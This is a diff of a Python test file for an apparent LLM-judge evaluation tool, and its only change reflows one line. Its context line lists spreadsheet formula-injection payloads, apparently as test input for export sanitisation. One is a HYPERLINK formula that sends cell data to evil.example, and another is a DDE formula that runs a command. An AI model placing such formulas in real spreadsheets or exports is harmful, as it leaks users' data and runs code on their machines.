@@ -24,7 +24,8 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "=cmd|' /C calc'
 
 
 def _run_with_raws(tmp_path, raws):
-    examples = [Example(id=f"e{i}", instruction="i", response_a="a", response_b="b", gold="a") for i in range(len(raws))]
+    examples = [Example(id=f"e{i}", instruction="i", response_a="a", response_b="b",
+                        gold="a") for i in range(len(raws))]
     manifest = Manifest(judge="mock:reply", protocol="p", dataset="d", package_version="0",
                         started_at="2026-12-07T00:00:00+00:00", n_examples=len(raws))
     run_dir = RunDir.create(tmp_path / "run", manifest, examples)
